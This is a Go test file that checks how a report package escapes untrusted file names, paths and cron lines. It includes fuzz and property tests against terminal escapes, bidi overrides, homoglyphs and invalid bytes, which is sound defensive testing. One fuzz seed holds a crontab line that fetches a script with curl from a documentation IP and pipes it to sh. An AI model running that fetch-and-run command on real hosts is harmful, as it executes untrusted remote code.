package report

import (
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"
)

// foreign are strings as hosts may show them, with what the door makes of them.
var foreign = []struct {
	name, in, inline, named, path string
}{
	{"plain", "sshd_config", `sshd_config`, `sshd_config`, `sshd_config`},
	{"empty", "", ``, `""`, `""`},
	{"the story", ". ..", `. ..`, `". .."`, `". .."`},
	{"the story's path", "/root/. ../update", `/root/. ../update`, `/root/. ../update`, `/root/". .."/update`},
	{"dot", ".", `.`, `.`, `.`},
	{"dot dot", "..", `..`, `..`, `..`},
	{"three dots", "...", `...`, `"..."`, `"..."`},
	{"one blank", " ", ` `, `" "`, `" "`},
	{"leading blank", " a", ` a`, `" a"`, `" a"`},
	{"trailing blank", "a ", `a `, `"a "`, `"a "`},
	{"double blank", "a  b", `a  b`, `"a  b"`, `"a  b"`},
	{"single blank", "a b", `a b`, `a b`, `"a b"`},
	{"quote", `a"b`, `a"b`, `"a\"b"`, `"a\"b"`},
	{"backslash", `a\b`, `a\\b`, `"a\\b"`, `"a\\b"`},
	{"spelt escape", `a\x1bb`, `a\\x1bb`, `"a\\x1bb"`, `"a\\x1bb"`},
	{"terminal escape", "\x1b[2Jx", `\x1b[2Jx`, `"\x1b[2Jx"`, `"\x1b[2Jx"`},
	{"8 bit terminal escape", "\u009b2J", `\u009b2J`, `"\u009b2J"`, `"\u009b2J"`},
	{"the same byte alone", "\x9b2J", `\x9b2J`, `"\x9b2J"`, `"\x9b2J"`},
	{"NUL and DEL", "\x00\x7f", `\x00\x7f`, `"\x00\x7f"`, `"\x00\x7f"`},
	{"line ends", "a\nb\r\tc", `a\nb\r\tc`, `"a\nb\r\tc"`, `"a\nb\r\tc"`},
	{"line separators", "\u2028\u2029\u0085", `\u2028\u2029\u0085`, `"\u2028\u2029\u0085"`, `"\u2028\u2029\u0085"`},
	{"bidi override", "\u202egnp.sh", `\u202egnp.sh`, `"\u202egnp.sh"`, `"\u202egnp.sh"`},
	{"zero width space", "a\u200bb", `a\u200bb`, `"a\u200bb"`, `"a\u200bb"`},
	{"tag characters", "\U000e0041", `\U000e0041`, `"\U000e0041"`, `"\U000e0041"`},
	{"homoglyph", "\u0430pt", `\u0430pt`, `"\u0430pt"`, `"\u0430pt"`},
	{"no-break blank", "a\u00a0b", `a\u00a0b`, `"a\u00a0b"`, `"a\u00a0b"`},
	{"replacement character", "\ufffd", `\ufffd`, `"\ufffd"`, `"\ufffd"`},
	{"not UTF-8", "\xff\xc0\xaf", `\xff\xc0\xaf`, `"\xff\xc0\xaf"`, `"\xff\xc0\xaf"`},
	{"surrogate half", "\xed\xa0\x80", `\xed\xa0\x80`, `"\xed\xa0\x80"`, `"\xed\xa0\x80"`},
	{"slashes", "//a/", `//a/`, `//a/`, `//a/`},
	{"colon", "/a:12/b:3", `/a:12/b:3`, `/a:12/b:3`, `/"a:12"/"b:3"`},
}

func TestDoor(t *testing.T) {
	for _, c := range foreign {
		t.Run(c.name, func(t *testing.T) {
			got := []string{Inline(c.in), Name(c.in), Path(c.in)}
			if d := cmp.Diff([]string{c.inline, c.named, c.path}, got); d != "" {
				t.Errorf("inline, name, path of %q (-want +got):\n%s", c.in, d)
			}
		})
	}
}

func TestPlace(t *testing.T) {
	for _, c := range []struct {
		name, path string
		line       int
		want       string
	}{
		{"line", "/etc/crontab", 3, "/etc/crontab:3"},
		{"whole file", "/etc/crontab", 0, "/etc/crontab"},
		{"negative line", "/etc/crontab", -1, "/etc/crontab"},
		{"a name that ends like a line", "/etc/cron.d/x:12", 0, `/etc/cron.d/"x:12"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Place(c.path, c.line); got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
		})
	}
}

func TestBound(t *testing.T) {
	for _, c := range []struct {
		name, in string
		n        int
		want     string
	}{
		{"fits", "abc", 3, `abc`},
		{"cut", "abcdef", 3, `abc\...[3 more bytes]`},
		{"no escape is cut in two", "ab\u202ecd", 5, `ab\...[5 more bytes]`},
		{"an escape that fits", "ab\u202ecd", 8, `ab\u202e\...[2 more bytes]`},
		{"forged mark", `\...[3 more bytes]`, 100, `\\...[3 more bytes]`},
		{"nothing fits", "\n", 1, `\...[1 more bytes]`},
		{"a whole file", strings.Repeat("x", 1<<20), 2, `xx\...[1048574 more bytes]`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Bound(c.in, c.n); got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
		})
	}
}

func TestUnescapeRefuses(t *testing.T) {
	for _, in := range []string{`\`, `\q`, `\x1`, `\xzz`, `\u12`, `\ud800`, `\U00110000`, `\Uffffffff`, `\...[3 more bytes]`, "\n", "\u00e9", "\x7f", `\x+1`} {
		if got, err := Unescape(in); err == nil {
			t.Errorf("%q was taken for %q", in, got)
		}
	}
}

// unpath reads what Path wrote, by the grammar that its comment gives.
func unpath(t interface{ Fatalf(string, ...any) }, s string) string {
	var out strings.Builder
	for s != "" {
		if s[0] != '"' {
			out.WriteByte(s[0])
			s = s[1:]
			continue
		}
		end := 1
		for end < len(s) && s[end] != '"' {
			if s[end] == '\\' {
				end++
			}
			end++
		}
		if end >= len(s) {
			t.Fatalf("quotes do not close in %q", s)
		}
		raw, err := Unescape(s[1:end])
		if err != nil {
			t.Fatalf("%v", err)
		}
		out.WriteString(raw)
		s = s[end+1:]
	}
	return out.String()
}

// checkDoor holds what the door promises of any string.
func checkDoor(t interface {
	Errorf(string, ...any)
	Fatalf(string, ...any)
}, s string) {
	in, quoted, named, path := Inline(s), Quote(s), Name(s), Path(s)
	for _, out := range []string{in, quoted, named, path, Bound(s, 10)} {
		for i := 0; i < len(out); i++ {
			if out[i] < 0x20 || out[i] > 0x7e {
				t.Fatalf("%q lets the byte %#x through: %q", s, out[i], out)
			}
		}
	}
	// Whatever leads back to s is not the form of any other string.
	if back, err := Unescape(in); err != nil || back != s {
		t.Errorf("Inline: %q -> %s -> %q, %v", s, in, back, err)
	}
	if back, err := strconv.Unquote(quoted); err != nil || back != s {
		t.Errorf("Quote: %q -> %s -> %q, %v", s, quoted, back, err)
	}
	if named != s && named != quoted {
		t.Errorf("Name: %q -> %s is neither itself nor quoted", s, named)
	}
	if back := unpath(t, path); back != s {
		t.Errorf("Path: %q -> %s -> %q", s, path, back)
	}
	for _, n := range []int{0, 1, 7, len(in), len(in) + 1} {
		b := Bound(s, n)
		kept, _, cut := strings.Cut(b, `\...[`)
		if !cut {
			kept = b
		}
		if len(kept) > n || !strings.HasPrefix(in, kept) || cut != (len(in) > n) {
			t.Errorf("Bound(%q, %d) = %s", s, n, b)
		}
	}
}

func FuzzDoor(f *testing.F) {
	for _, c := range foreign {
		f.Add(c.in)
	}
	f.Add("/a\"/b\\\" c/\u202e/\xff")
	f.Fuzz(func(t *testing.T, s string) { checkDoor(t, s) })
}

func TestDoorProperties(t *testing.T) {
	hostile := rapid.StringOf(rapid.SampledFrom([]rune("ab.: /\\\"'x0nut\t\n\x1b\u200b\u202e\u0430\ufffd\U000e0041")))
	rapid.Check(t, func(t *rapid.T) {
		a := hostile.Draw(t, "a")
		checkDoor(t, a)
		b := hostile.Draw(t, "b")
		if a != b && (Name(a) == Name(b) || Path(a) == Path(b) || Inline(a) == Inline(b)) {
			t.Errorf("%q and %q look alike", a, b)
		}
	})
}

// unwrap undoes wrap by the rule that its comment gives.
func unwrap(lines []string) string {
	var b strings.Builder
	for i, line := range lines {
		slashes := len(line) - len(strings.TrimRight(line, `\`))
		switch {
		case i == len(lines)-1:
			b.WriteString(line)
		case slashes%2 == 1:
			b.WriteString(line[:len(line)-1])
		default:
			b.WriteString(line + " ")
		}
	}
	return b.String()
}

func checkWrap(t interface{ Errorf(string, ...any) }, s string, width int) {
	lines := wrap(Inline(s), width)
	if got := unwrap(lines); got != Inline(s) {
		t.Errorf("wrap(%q, %d) = %q, which reads %q", Inline(s), width, lines, got)
	}
	for _, line := range lines {
		if width > 0 && len(line) > max(width, minColumns) {
			t.Errorf("wrap(%q, %d) has a line of %d: %q", Inline(s), width, len(line), line)
		}
	}
}

func FuzzWrap(f *testing.F) {
	f.Add("* * * * *\tnobody\tcurl -s http://198.51.100.7/x | sh", uint8(20))
	f.Add("a  b   c    d     e      f       g        h", uint8(22))
	f.Add(strings.Repeat(`\`, 100), uint8(21))
	f.Add(strings.Repeat("\u202e", 30)+" "+strings.Repeat(" ", 60), uint8(25))
	f.Fuzz(func(t *testing.T, s string, width uint8) { checkWrap(t, s, int(width)) })
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		name, in string
		width    int
		want     []string
	}{
		{"no width", strings.Repeat("a b ", 50), 0, []string{strings.Repeat("a b ", 50)}},
		{"words", "the quick brown fox jumps over the dog", 20, []string{"the quick brown fox", "jumps over the dog"}},
		{"exactly", "the quick brown foxy jumps", 20, []string{"the quick brown foxy", "jumps"}},
		{"a rule's name is not cut at its hyphens", "finding (no-password-login) here", 20, []string{"finding", "(no-password-login)", "here"}},
		{"long word", "x " + strings.Repeat("y", 45), 20, []string{"x", strings.Repeat("y", 19) + `\`, strings.Repeat("y", 19) + `\`, "yyyyyyy"}},
		{"no cut within an escape", strings.Repeat("y", 16) + `\u202e` + "zzz", 20, []string{strings.Repeat("y", 16) + `\`, `\u202ezzz`}},
		{"runs of blanks stay", "aaaaaaaaaa  bbbbbbbb cc", 20, []string{"aaaaaaaaaa  bbbbbbbb", "cc"}},
		{"colour takes no cells", "\x1b[31mCRITICAL\x1b[0m a b c d e", 20, []string{"\x1b[31mCRITICAL\x1b[0m a b c d e"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if d := cmp.Diff(c.want, wrap(c.in, c.width)); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}
